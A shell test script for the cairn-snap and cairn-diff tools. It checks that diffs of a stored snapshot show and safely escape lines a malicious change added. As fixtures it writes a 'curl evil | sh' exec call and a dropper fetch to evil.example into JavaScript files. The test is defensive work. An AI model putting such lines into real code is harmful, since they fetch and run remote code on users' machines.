#!/bin/sh
# cairn-snap --store --store-content twice, then cairn-diff --store by tag
# and HEAD~1, with --patch showing the lines a malicious change added.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"

mkdir -p root/lib
printf 'line 1\nline 2\nline 3\n' > root/lib/index.js
printf 'bin\000ary' > root/data.bin
cairn-snap -q --no-packages root -o s1.cairn --store store.git --store-content 2> /dev/null
git -C store.git tag known-good
printf 'line 1\nline 2\nrequire("child_process").exec("curl evil | sh")\n\tindented\033[2J\nline 3\n' > root/lib/index.js
printf 'bin\000ar2' > root/data.bin
printf 'fetch("https://evil.example/x")\n' > root/lib/dropper.js
cairn-snap -q --no-packages root -o s2.cairn --store store.git --store-content 2> /dev/null
[ "$(git -C store.git rev-list --all | wc -l)" = 2 ] || fail "two commits"

set +e; cairn-diff --store store.git known-good HEAD --patch > p.out 2> p.err; rc=$?; set -e
[ "$rc" = 1 ] || fail "exit $rc: $(cat p.err)"
# a stored input is named REPO@REV, as cairn-report --store names it
grep -q '^old: store.git@known-good (host ' p.out || fail "old label"
grep -q '^new: store.git@HEAD (host ' p.out || fail "new label"
grep -q '^  ~ lib/index.js' p.out || fail "modified file"
grep -q '^+require("child_process").exec("curl evil | sh")' p.out || fail "patch line"
grep -q "^+$(printf '\t')indented\\\\x1b\\[2J\$" p.out || fail "patch line: tab kept, ESC escaped"
! grep -q "$(printf '\033')" p.out || fail "raw ESC in the patch"
grep -q '^Binary file data.bin: size 7 -> 7, sha256 ' p.out || fail "binary line"
grep -q '^+fetch("https://evil.example/x")' p.out || fail "added file's lines"
set +e; cairn-diff --store store.git HEAD~1 HEAD --json > s.json; set -e
jq -e '.mode == "store" and .summary.modified == 2 and (.store.old_commit | length) == 40' \
	s.json > /dev/null || fail "JSON"
cairn-diff --store store.git HEAD HEAD > /dev/null || fail "same revision"
# a reflog revision on the host/root branch
branch=$(git -C store.git for-each-ref --format='%(refname:short)' refs/heads/cairn/)
case "$branch" in cairn/*/*-????????) ;; *) fail "branch name '$branch'" ;; esac
set +e; cairn-diff -q --store store.git "$branch@{1}" "$branch"; rc=$?; set -e
[ "$rc" = 1 ] || fail "reflog revision: exit $rc"
set +e; cairn-diff --store store.git nope HEAD > /dev/null 2> e.err; rc=$?; set -e
[ "$rc" = 2 ] && grep -q nope e.err || fail "bad revision: exit $rc"
# replication is plain git
git clone -q --bare store.git copy.git
set +e; cairn-diff --store copy.git known-good HEAD > /dev/null; rc=$?; set -e
[ "$rc" = 1 ] || fail "cloned store: exit $rc"
echo ok
